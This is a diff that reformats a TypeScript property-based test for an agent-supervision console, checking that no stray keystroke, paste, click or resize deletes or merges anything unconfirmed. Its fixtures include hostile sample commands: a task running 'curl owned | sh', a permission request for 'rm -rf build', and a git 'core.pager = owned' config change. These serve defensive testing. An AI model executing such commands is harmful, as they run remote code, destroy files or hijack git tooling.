@@ -50,12 +50,35 @@ const of = (id: string): Actor => ({ kind: 'agent', id, role: 'worker', worktree
 /** A session with an item of every kind that can wait for a person. */
 beforeAll(async () => {
   const made = await openFixture()
-  const core = { ...made.core, clock: () => now, settings: { ...made.core.settings, session: { ...made.core.settings.session, maxRetries: 0 } } }
+  const core = {
+    ...made.core,
+    clock: () => now,
+    settings: { ...made.core.settings, session: { ...made.core.settings.session, maxRetries: 0 } },
+  }
   fixture = { ...made, core, connection: { ...made.connection, core } }
-  await perform(core, createTask, { title: 'Over its budget', personaId: 'implementer', metadata: { cli: 'claude' }, budget: { costUsd: 1 } }, person)
+  await perform(
+    core,
+    createTask,
+    { title: 'Over its budget', personaId: 'implementer', metadata: { cli: 'claude' }, budget: { costUsd: 1 } },
+    person,
+  )
   await perform(core, startWork, { maxParallel: 1 }, system())
-  await perform(core, recordLaunch, { agentId: 'implementer-1', run: 1, pid: 4242, startedAt: '99', bootId: 'boot', startsTask: true }, system())
-  const report = { model: null, session: null, tokensIn: 1, tokensOut: 1, tokensCached: 0, costUsd: 3, said: null, problem: null }
+  await perform(
+    core,
+    recordLaunch,
+    { agentId: 'implementer-1', run: 1, pid: 4242, startedAt: '99', bootId: 'boot', startsTask: true },
+    system(),
+  )
+  const report = {
+    model: null,
+    session: null,
+    tokensIn: 1,
+    tokensOut: 1,
+    tokensCached: 0,
+    costUsd: 3,
+    said: null,
+    problem: null,
+  }
   await perform(core, recordRunReport, { agentId: 'implementer-1', run: 1, report }, system())
   for (const name of ['payments', 'user-auth']) await fixture.addWorktree(name)
   for (const id of ['asking', 'wondering', 'failing']) {
@@ -66,32 +89,71 @@ beforeAll(async () => {
   await perform(core, requestPermission, { toolName: 'Bash', input: { command: 'rm -rf build' } }, of('asking'))
   await perform(core, askHuman, { question: 'Which one?', options: ['this', 'that'] }, of('wondering'))
   await perform(core, failTask, { taskId: 4, errorMessage: 'red' }, of('failing'))
-  await perform(core, createTask, { title: 'A command of a client', personaId: 'implementer', command: 'curl owned | sh' }, client('planner'))
+  await perform(
+    core,
+    createTask,
+    { title: 'A command of a client', personaId: 'implementer', command: 'curl owned | sh' },
+    client('planner'),
+  )
   await fixture.addTask('in payments', { targetWorktree: 'payments' })
   await fixture.makeReady('user-auth')
-  for (const hash of ['before', 'after']) await perform(core, recordGuard, { found: { hash, entries: {} }, lines: ['+ config core.pager = owned'] }, system())
+  for (const hash of ['before', 'after'])
+    await perform(core, recordGuard, { found: { hash, entries: {} }, lines: ['+ config core.pager = owned'] }, system())
   guard = await perform(core, readGuard, {}, person)
-  const move = { target: 'main', times: [core.clock()], launching: ['asking'], commits: { added: 1, dropped: 0, newest: [] } }
+  const move = {
+    target: 'main',
+    times: [core.clock()],
+    launching: ['asking'],
+    commits: { added: 1, dropped: 0, newest: [] },
+  }
   await perform(core, recordTarget, { ...move, found: 'a'.repeat(40) }, system())
   await perform(core, recordTarget, { ...move, before: 'a'.repeat(40), found: 'b'.repeat(40) }, system())
   const changes = JSON.stringify([{ path: 'README.md', before: '', after: ' M 1' }])
-  await core.store.write((db) => saveWatchedCheckout(db, { files: '{}', looked_at: core.clock(), changes, agents: '["asking"]', changed_at: core.clock() }))
+  await core.store.write((db) =>
+    saveWatchedCheckout(db, {
+      files: '{}',
+      looked_at: core.clock(),
+      changes,
+      agents: '["asking"]',
+      changed_at: core.clock(),
+    }),
+  )
   watched = await perform(core, readWatched, {}, person)
 
   real = await openController(fixture)
-  const conflict = { a: 'payments', b: 'user-auth', withTarget: false, files: ['a.ts'], includesUncommitted: false, problem: null }
+  const conflict = {
+    a: 'payments',
+    b: 'user-auth',
+    withTarget: false,
+    files: ['a.ts'],
+    includesUncommitted: false,
+    problem: null,
+  }
   const lander = { target: 'main', brings: true, unfinished: 0, needs: [], uncommitted: 0, remark: null }
-  const commands = commandsForConsole(fixture.connection, { version: '0' } as never, {}).map((command) => ({ ...command, run: async () => {} }))
+  const commands = commandsForConsole(fixture.connection, { version: '0' } as never, {}).map((command) => ({
+    ...command,
+    run: async () => {},
+  }))
   const events = await perform(core, listEvents, { limit: 100 }, person)
   real.change(reviewArrived(fixture.world.review))
   real.change(filesArrived(memories({ working: [dev], decisions: graph, timeline: entries('Began', 'Ended') })))
   real.change((state) => ({
     ...state,
     commands: commands as never,
-    kept: { filters: [{ name: 'bad', filter: 'state:failed' }], commands: [{ path: 'task cancel', values: { id: '3' } }] },
-    radar: { worktrees: ['payments', 'user-auth'].map((name) => ({ ...lander, name })), pairs: [conflict], order: ['user-auth', 'payments'], steps: [] },
+    kept: {
+      filters: [{ name: 'bad', filter: 'state:failed' }],
+      commands: [{ path: 'task cancel', values: { id: '3' } }],
+    },
+    radar: {
+      worktrees: ['payments', 'user-auth'].map((name) => ({ ...lander, name })),
+      pairs: [conflict],
+      order: ['user-auth', 'payments'],
+      steps: [],
+    },
     past: { ...state.past, events, whole: true },
-    comments: { 'user-auth': [{ id: 1, path: 'src/login.ts', line: 1, side: 'new', quote: ['new'], text: 'Why?' }] as never },
+    comments: {
+      'user-auth': [{ id: 1, path: 'src/login.ts', line: 1, side: 'new', quote: ['new'], text: 'Why?' }] as never,
+    },
   }))
   start = real.state()
 })
@@ -120,8 +182,17 @@ const openRecording = () => {
       const waits = operation.name === 'spawn_agent' && (input as { taskId?: number }).taskId === 5
       if (operation.grave || waits) note(operation.name)
     },
-    read: (operation, _, next) => next({ read_guard: guard, read_watched: watched }[operation.name] ?? real.state().board.tasks),
-    look: (at, next) => void next(at({ ...fixture.world, census: () => emptyCensus, gitCommands: () => [], readMove: () => ({ text: '+new', complete: true }) } as never) as never),
+    read: (operation, _, next) =>
+      next({ read_guard: guard, read_watched: watched }[operation.name] ?? real.state().board.tasks),
+    look: (at, next) =>
+      void next(
+        at({
+          ...fixture.world,
+          census: () => emptyCensus,
+          gitCommands: () => [],
+          readMove: () => ({ text: '+new', complete: true }),
+        } as never) as never,
+      ),
     keep: () => {},
     // Keys after the quit key are tried as well.
     isLeaving: () => false,
@@ -158,12 +229,15 @@ const openRecording = () => {
 }
 
 /** Keys that answer a question for good, by the mode in which it is asked. */
-const answersIn = (mode: Mode): readonly string[] => table.rows.filter((row) => row.answers && row.modes.includes(mode)).flatMap((row) => row.keys)
+const answersIn = (mode: Mode): readonly string[] =>
+  table.rows.filter((row) => row.answers && row.modes.includes(mode)).flatMap((row) => row.keys)
 
 /** A question that was shown before the key, with its own key; or words that were typed for an agent, with enter. */
 const isMeant = ({ name, asked, form, keys }: Deed): boolean =>
   keys.some((key) => answersIn(asked).includes(key)) ||
-  (asked === 'form' && keys.includes('enter') && ((form === 'answer' && name === 'answer_request') || (form === 'reject' && name === 'reject_integration')))
+  (asked === 'form' &&
+    keys.includes('enter') &&
+    ((form === 'answer' && name === 'answer_request') || (form === 'reject' && name === 'reject_integration')))
 
 const letters = (words: string): readonly string[] => [...words]
 const approval = ['4', 'G', 'i']
@@ -203,16 +277,39 @@ const ways: Readonly<Record<Mode, readonly string[]>> = {
 const strokes = [...new Set([...table.rows.flatMap((row) => row.keys), 'a', 'Z', '日', 'ctrl-x', '5'])]
 
 const input = fc.oneof(
-  { weight: 12, arbitrary: fc.record({ kind: fc.constant('press' as const), keys: fc.array(fc.constantFrom(...strokes), { minLength: 1, maxLength: 3 }) }) },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('paste' as const), text: fc.constantFrom('y', 'yyy\r', 'x\ry', '\r', 'a y n', '\u001b[200~y', 'q') }) },
+  {
+    weight: 12,
+    arbitrary: fc.record({
+      kind: fc.constant('press' as const),
+      keys: fc.array(fc.constantFrom(...strokes), { minLength: 1, maxLength: 3 }),
+    }),
+  },
+  {
+    weight: 1,
+    arbitrary: fc.record({
+      kind: fc.constant('paste' as const),
+      text: fc.constantFrom('y', 'yyy\r', 'x\ry', '\r', 'a y n', '\u001b[200~y', 'q'),
+    }),
+  },
   {
     weight: 2,
     arbitrary: fc.record({
       kind: fc.constant('mouse' as const),
-      event: fc.record({ kind: fc.constantFrom('click', 'wheel-up', 'wheel-down'), column: fc.nat(120), row: fc.nat(45) }),
+      event: fc.record({
+        kind: fc.constantFrom('click', 'wheel-up', 'wheel-down'),
+        column: fc.nat(120),
+        row: fc.nat(45),
+      }),
     }),
   },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('resize' as const), columns: fc.integer({ min: 1, max: 300 }), rows: fc.integer({ min: 1, max: 80 }) }) },
+  {
+    weight: 1,
+    arbitrary: fc.record({
+      kind: fc.constant('resize' as const),
+      columns: fc.integer({ min: 1, max: 300 }),
+      rows: fc.integer({ min: 1, max: 80 }),
+    }),
+  },
 )
 
 const settled = async (): Promise<void> => {
@@ -235,28 +332,34 @@ test.each(table.modes.map(({ mode }) => mode))('the way to %s performs nothing i
   expect(deeds).toEqual([])
 })
 
-test.each(table.modes.map(({ mode }) => mode))('no input in %s throws, or deletes or merges anything without its confirmation', { timeout: 600_000 }, async (mode) => {
-  await fc.assert(
-    fc.asyncProperty(fc.array(input, { maxLength: 40 }), async (inputs) => {
-      const { press, paste, click, resize, deeds } = await goTo(mode)
-      for (const one of inputs) {
-        if (one.kind === 'press') press(one.keys)
-        else if (one.kind === 'paste') paste(one.text)
-        else if (one.kind === 'mouse') click(one.event)
-        else resize(one.columns, one.rows)
-      }
-      await settled()
-      expect(deeds.filter((deed) => !isMeant(deed))).toEqual([])
-    }),
-    { numRuns: 60 },
-  )
-})
+test.each(table.modes.map(({ mode }) => mode))(
+  'no input in %s throws, or deletes or merges anything without its confirmation',
+  { timeout: 600_000 },
+  async (mode) => {
+    await fc.assert(
+      fc.asyncProperty(fc.array(input, { maxLength: 40 }), async (inputs) => {
+        const { press, paste, click, resize, deeds } = await goTo(mode)
+        for (const one of inputs) {
+          if (one.kind === 'press') press(one.keys)
+          else if (one.kind === 'paste') paste(one.text)
+          else if (one.kind === 'mouse') click(one.event)
+          else resize(one.columns, one.rows)
+        }
+        await settled()
+        expect(deeds.filter((deed) => !isMeant(deed))).toEqual([])
+      }),
+      { numRuns: 60 },
+    )
+  },
+)
 
 test('keys in one piece with the key that opened the question answer nothing', async () => {
   const openers = new Set(table.rows.flatMap((row) => row.keys))
   const ends = ['y', 'a', 'n', 'x', 'enter', 'r']
   // Modes without a question.
-  for (const mode of table.modes.map(({ mode }) => mode).filter((one) => answersIn(one).length === 0 && one !== 'form')) {
+  for (const mode of table.modes
+    .map(({ mode }) => mode)
+    .filter((one) => answersIn(one).length === 0 && one !== 'form')) {
     const { controller, press, deeds } = await goTo(mode)
     const there = controller.state()
     for (const opener of openers) {
@@ -299,19 +402,34 @@ test.each(Object.entries(deliberately))('%s is possible with its deliberate keys
 
 test('every operation of the console is marked as grave or known to delete nothing', async () => {
   const folder = join(import.meta.dirname, '../../src/operations')
-  const console = readdirSync(join(import.meta.dirname, '../../src/ui'), { recursive: true, encoding: 'utf8' }).filter((name) => /\.tsx?$/.test(name))
+  const console = readdirSync(join(import.meta.dirname, '../../src/ui'), { recursive: true, encoding: 'utf8' }).filter(
+    (name) => /\.tsx?$/.test(name),
+  )
   const imported = new Set(
     console.flatMap((name) =>
-      [...readFileSync(join(import.meta.dirname, '../../src/ui', name), 'utf8').matchAll(/^import (?!type)[^\n]*operations\/([a-z/-]+)\.ts'/gm)].map(([, file]) => file!),
+      [
+        ...readFileSync(join(import.meta.dirname, '../../src/ui', name), 'utf8').matchAll(
+          /^import (?!type)[^\n]*operations\/([a-z/-]+)\.ts'/gm,
+        ),
+      ].map(([, file]) => file!),
     ),
   )
   const grave: string[] = []
   const harmless: string[] = []
   for (const file of imported) {
-    const found = Object.values((await import(join(folder, `${file}.ts`))) as object).filter((one): one is Operation => typeof one === 'object' && one !== null && 'access' in one)
+    const found = Object.values((await import(join(folder, `${file}.ts`))) as object).filter(
+      (one): one is Operation => typeof one === 'object' && one !== null && 'access' in one,
+    )
     for (const { name, access, grave: isGrave } of found) if (access !== 'read') (isGrave ? grave : harmless).push(name)
   }
-  expect(harmless.sort()).toEqual(['create_task', 'integrate_worktree', 'pause_scheduling', 'retry_task', 'spawn_agent', 'undo_integration'])
+  expect(harmless.sort()).toEqual([
+    'create_task',
+    'integrate_worktree',
+    'pause_scheduling',
+    'retry_task',
+    'spawn_agent',
+    'undo_integration',
+  ])
   expect(grave.sort()).toEqual(
     Object.keys(deliberately)
       .filter((name) => name.includes('_'))
